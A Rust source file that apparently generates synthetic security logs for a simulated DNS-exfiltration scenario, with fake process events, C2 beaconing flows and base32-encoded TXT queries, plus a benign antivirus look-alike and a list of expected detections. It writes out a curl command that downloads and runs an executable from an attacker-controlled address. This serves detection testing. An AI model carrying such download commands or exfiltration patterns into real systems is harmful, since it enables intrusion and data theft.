//! AT-43: the protocol's server sends documents out in the names it asks the resolver for.

use std::net::Ipv4Addr;

use super::{Attack, Entity, Facts, Family, Planted};
use crate::clock::{MINUTE_MS, SECOND_MS};
use crate::devices::fortigate::{self, Flow, Verdict};
use crate::devices::resolver;
use crate::devices::windows::EventLog;
use crate::devices::windows_events::{self as events, Process};
use crate::rng::Rng;
use crate::story::Stage;

/// The scenario.
pub(crate) struct DnsExfiltration;

const ALPHABET: [u8; 32] = *b"abcdefghijklmnopqrstuvwxyz234567";
const SHELL: &str = r"C:\Windows\System32\cmd.exe";

impl Attack for DnsExfiltration {
    fn facts(&self) -> Facts {
        Facts {
            number: 43,
            family: Family::Database,
            title_en: "Slow exfiltration through DNS from the protocol server",
            title_it: "Esfiltrazione lenta via DNS dal server di protocollo",
            office: None,
        }
    }

    fn plant(&self, stage: &mut Stage<'_>) -> Planted {
        let town = stage.town;
        let server = &town.hosts.suite;
        let control = stage.outsider_v4(0);
        let every_ms = stage.rng.between(100, 260) * SECOND_MS;
        let beats = stage.rng.between(48, 80);
        let length_ms = every_ms * (beats + 2);
        let start_ms = stage.start_off_hours(length_ms + 30 * MINUTE_MS);
        let domain = domain(&mut stage.rng);
        install(stage, start_ms, control);
        beacon(stage, start_ms + 3 * MINUTE_MS, every_ms, beats, (server.ip, control));
        let at_ms = start_ms + stage.rng.between(length_ms / 5, length_ms / 2);
        let count = stage.rng.count(310, 395);
        let burst_ms = stage.rng.between(390, 580) * SECOND_MS;
        let (low, high) = (stage.rng.count(38, 44), stage.rng.count(48, 60));
        for at_ms in stage.spread(at_ms, burst_ms, count) {
            let length = stage.rng.count(low, high);
            let name = format!("{}.{domain}", word(&mut stage.rng, length));
            ask(stage, at_ms, server.ip, &name, "TXT");
        }
        let short = server.computer.split('.').next().unwrap_or(&server.computer);
        let entity = Entity::default()
            .with("source_ip", server.ip)
            .with("host_name", &server.computer)
            .with("host_name", short)
            .with("dns_question_name", &domain)
            .with("destination_ip", control);
        Planted { entity, detections: vec!["SC-20", "NT-03"] }
    }

    fn twin(&self, stage: &mut Stage<'_>) -> Entity {
        // An antivirus asks its cloud about files, by their hash.
        let person = stage.person();
        let start_ms = stage.start_in_office(40 * MINUTE_MS);
        let count = stage.rng.count(45, 110);
        for at_ms in stage.spread(start_ms, 30 * MINUTE_MS, count) {
            let (high, low) = (stage.rng.next_u64(), stage.rng.next_u64());
            let name = format!("{high:016x}{low:016x}.avqs.antivirus.cloud.example");
            ask(stage, at_ms, person.ip, &name, "A");
        }
        Entity::default().with("source_ip", person.ip)
    }
}

fn ask(stage: &mut Stage<'_>, at_ms: i64, client: Ipv4Addr, name: &str, kind: &str) {
    let town = stage.town;
    let port = stage.rng.port(49_152, 65_000);
    resolver::query(&mut stage.lines, town, at_ms, client, port, name, kind);
}

fn domain(rng: &mut Rng) -> String {
    let (start, end) =
        (rng.pick(&["cdn", "sync", "stat", "api", "ns"]), rng.pick(&["cache", "edge", "log", "t"]));
    format!("{start}-{end}{}.example", rng.size(2, 98))
}

/// A random word of the alphabet of base 32.
fn word(rng: &mut Rng, length: usize) -> String {
    (0..length).map(|_| char::from(rng.pick(&ALPHABET))).collect()
}

/// A download, then a program nobody has seen.
fn install(stage: &mut Stage<'_>, start_ms: i64, control: Ipv4Addr) {
    let town = stage.town;
    let log = EventLog::of(&town.hosts.suite);
    let name = stage.rng.pick(&["msupd.exe", "wdsync.exe", "protsvc.exe", "dnscfg.exe"]);
    let path = format!(r"C:\ProgramData\{name}");
    let download = format!("curl.exe -s -k -o {path} https://{control}/{:x}", stage.rng.below(1 << 32));
    let image = r"C:\Windows\System32\curl.exe";
    let process = Process { user: "SYSTEM", image, command: &download, parent: SHELL };
    events::process(&mut stage.lines, town, &log, start_ms, &process);
    events::file_created(&mut stage.lines, &log, start_ms + 2_100, image, &path);
    let process = Process { user: "SYSTEM", image: &path, command: &path, parent: SHELL };
    let at_ms = start_ms + stage.rng.between(20, 120) * SECOND_MS;
    events::process(&mut stage.lines, town, &log, at_ms, &process);
}

/// Small regular flows to the same address.
fn beacon(stage: &mut Stage<'_>, start_ms: i64, every_ms: i64, beats: i64, (from, to): (Ipv4Addr, Ipv4Addr)) {
    let town = stage.town;
    let mut at_ms = start_ms;
    for _ in 0..beats {
        let flow = Flow {
            source: (from, stage.rng.port(49_152, 65_000)),
            destination: (to, 443),
            protocol: 6,
            verdict: Verdict::Close,
            interfaces: ("SERVER", "wan1"),
            policy: 21,
            bytes: (stage.rng.size(700, 900), stage.rng.size(1_100, 1_900)),
            duration_s: 1,
        };
        fortigate::traffic(&mut stage.lines, town, at_ms, &flow);
        at_ms += every_ms + stage.rng.between(-every_ms / 30, every_ms / 30);
    }
}
